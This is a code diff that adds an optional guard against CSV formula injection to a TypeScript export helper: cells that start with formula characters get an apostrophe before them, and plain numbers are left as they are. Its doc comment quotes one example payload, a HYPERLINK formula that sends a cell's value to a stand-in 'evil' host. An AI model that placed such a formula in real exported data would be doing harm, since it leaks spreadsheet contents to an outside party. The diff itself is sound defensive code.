@@ -11,6 +11,20 @@ export function csvField(value: string | null): string {
   return value;
 }
 
-export function csvLine(values: ReadonlyArray<string | null>): string {
-  return `${values.map(csvField).join(',')}\r\n`;
+export function csvLine(values: ReadonlyArray<string | null>, options: { neutraliseFormulas?: boolean } = {}): string {
+  const cells = options.neutraliseFormulas ? values.map(neutraliseFormula) : values;
+  return `${cells.map(csvField).join(',')}\r\n`;
+}
+
+/**
+ * Spreadsheets run a cell starting with = + - @ (or a tab or CR before one of them) as a
+ * formula: a customer named `=HYPERLINK("http://evil/?"&A1, "x")` would run on the data
+ * officer's machine. Such cells get a leading apostrophe, which spreadsheets show as text and
+ * which a person can see and remove. Plain numbers (-12.50, +63) are left alone: they cannot be
+ * formulas, and an apostrophe would turn every negative amount into text.
+ */
+export function neutraliseFormula(value: string | null): string | null {
+  if (value === null || !/^[=+\-@\t\r]/.test(value)) return value;
+  if (/^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(value)) return value;
+  return `'${value}`;
 }
